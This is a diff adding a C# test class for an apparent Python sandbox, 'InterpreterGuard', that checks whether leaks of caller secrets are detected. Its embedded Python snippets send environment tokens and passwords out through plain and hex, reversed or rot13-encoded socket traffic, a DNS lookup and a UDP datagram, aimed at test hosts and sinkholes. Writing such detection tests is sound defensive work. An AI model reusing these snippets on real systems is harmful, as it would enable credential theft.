@@ -1,0 +1,114 @@
+using InterpreterGuard.Containment.Tests.Hosting;
+
+namespace InterpreterGuard.Containment.Tests.Network;
+
+/// <summary>What the caller gave the code goes out: as it is, that is what it was given for; in disguise it does not arrive. Everything goes to listeners of ours on this machine, or into a sinkhole.</summary>
+[Collection(HostCollection.Name)]
+[Trait("needs", "docker")]
+public sealed class SecretFlowTests(BrokerHost broker) : IClassFixture<BrokerHost>
+{
+    private const string Token = "live4Qm9ZtX2vKc7LwPq1Rb8";
+
+    private static readonly Dictionary<string, string> Environment = new(StringComparer.Ordinal)
+    {
+        ["PAYMENTS_TOKEN"] = Token, ["STORAGE_KEY"] = "Zx81mPwq04LtRkVb77NhYc3d", ["MAIL_PASSWORD"] = "orchard-Tractor-9-velvet-Gate", ["REGION"] = "the-north-of-the-south-4711",
+    };
+
+    [Theory]
+    [InlineData("os.environ['PAYMENTS_TOKEN']")]
+    [InlineData("base64.b64encode(b'user:' + os.environ['PAYMENTS_TOKEN'].encode()).decode()")]
+    public async Task Who_signs_in_is_recorded_and_let_through(string written)
+    {
+        var answer = await RunAsync(BrokerHost.Open, $$"""
+            import base64, os, urllib.request
+            for _ in range(3):
+                asked = urllib.request.Request("http://service.test/bytes/5", headers={"Authorization": "Bearer " + {{written}}, "X-Region": os.environ["REGION"]})
+                print(len(urllib.request.urlopen(asked, timeout=5).read()))
+            """);
+
+        Assert.True(answer.Status == "completed", $"{answer}");
+        Assert.Equal("5\n5\n5\n", answer.Stdout);
+        var seen = Assert.Single(await SeenAsync(answer));
+        Assert.Equal(("PAYMENTS_TOKEN", "flow", "service.test"), (seen.Text("variable"), seen.Text("channel"), seen.Text("name")));
+        Assert.DoesNotContain(Token, seen.GetRawText(), StringComparison.Ordinal);
+        Assert.Equal(["IG6007"], RulesOf(answer));
+        Assert.Null(answer.IncidentId);
+    }
+
+    [Theory]
+    [InlineData("token.encode().hex()", "hex")]
+    [InlineData("token[::-1]", "reversed")]
+    public async Task One_in_disguise_does_not_arrive(string written, string encoding)
+    {
+        var before = broker.Http.BytesReceived;
+
+        var answer = await RunAsync(BrokerHost.Open, $$"""
+            import os, socket
+            token = os.environ["PAYMENTS_TOKEN"]
+            s = socket.create_connection(("service.test", 80))
+            try:
+                s.sendall(b"GET /?q=" + ({{written}}).encode() + b" HTTP/1.1\r\nHost: service.test\r\n\r\n")
+                print(s.recv(100))
+            except OSError as problem:
+                print(type(problem).__name__)
+            """);
+
+        Assert.True(answer.Status == "completed", $"{answer}");
+        Assert.Equal(before, broker.Http.BytesReceived);
+        Assert.Equal(encoding, Assert.Single(await SeenAsync(answer)).Text("encoding"));
+        var incident = await broker.Host.IncidentAsync(answer.Id);
+        Assert.Equal("high", incident!.Value.Text("severity"));
+        Assert.StartsWith($"Secret of the caller sent in disguise: the variable PAYMENTS_TOKEN left through a connection to service.test port 80, written as {encoding}", incident.Value.Text("summary"), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Three_at_one_place_alert()
+    {
+        var answer = await RunAsync(BrokerHost.Hole, """
+            import os, socket
+            for name in ("PAYMENTS_TOKEN", "STORAGE_KEY", "MAIL_PASSWORD"):
+                with socket.create_connection(("192.0.2.7", 9000)) as s:
+                    s.sendall(os.environ[name].encode())
+            """);
+
+        Assert.Equal([1, 2, 3], (await SeenAsync(answer)).Select(fact => fact.GetProperty("variables").GetInt32()).Order());
+        Assert.Equal(["IG6006", "IG6007"], RulesOf(answer).Order(StringComparer.Ordinal));
+        Assert.NotNull(answer.IncidentId);
+    }
+
+    // However the code came by it: here by its standard input, so that screening has nothing to say.
+    [Fact]
+    public async Task One_in_a_name_is_not_answered()
+    {
+        var answer = await RunAsync(BrokerHost.Hole, """
+            import socket
+            try:
+                print(socket.getaddrinfo(input(), 80))
+            except OSError as problem:
+                print(problem.errno)
+            """, Token + "\n");
+
+        Assert.True(answer.Stdout == "-2\n", $"{answer}");
+        Assert.All(await SeenAsync(answer), seen => Assert.Equal("lookup", seen.Text("channel")));
+        Assert.Contains("IG6005", RulesOf(answer));
+    }
+
+    [Fact]
+    public async Task A_datagram_is_looked_at_as_well()
+    {
+        var answer = await RunAsync(BrokerHost.Hole, """
+            import codecs, os, socket
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.sendto(codecs.encode(os.environ["PAYMENTS_TOKEN"], "rot13").encode(), ("192.0.2.9", 5005))
+            """);
+
+        Assert.Equal("rot13", Assert.Single(await SeenAsync(answer)).Text("encoding"));
+        Assert.Contains("IG6005", RulesOf(answer));
+    }
+
+    private Task<Answer> RunAsync(string profile, string code, string? stdin = null) => broker.Host.RunAsync(Submission.Python(code) with { Profile = profile, Stdin = stdin, Env = Environment });
+
+    private static IEnumerable<string> RulesOf(Answer answer) => answer.Detections.Select(detection => detection.Text("rule")).Where(rule => rule.StartsWith("IG600", StringComparison.Ordinal)).Distinct(StringComparer.Ordinal);
+
+    private Task<IReadOnlyList<System.Text.Json.JsonElement>> SeenAsync(Answer answer) => Flows.FactsAsync(broker.Host, answer, "secret.sent");
+}
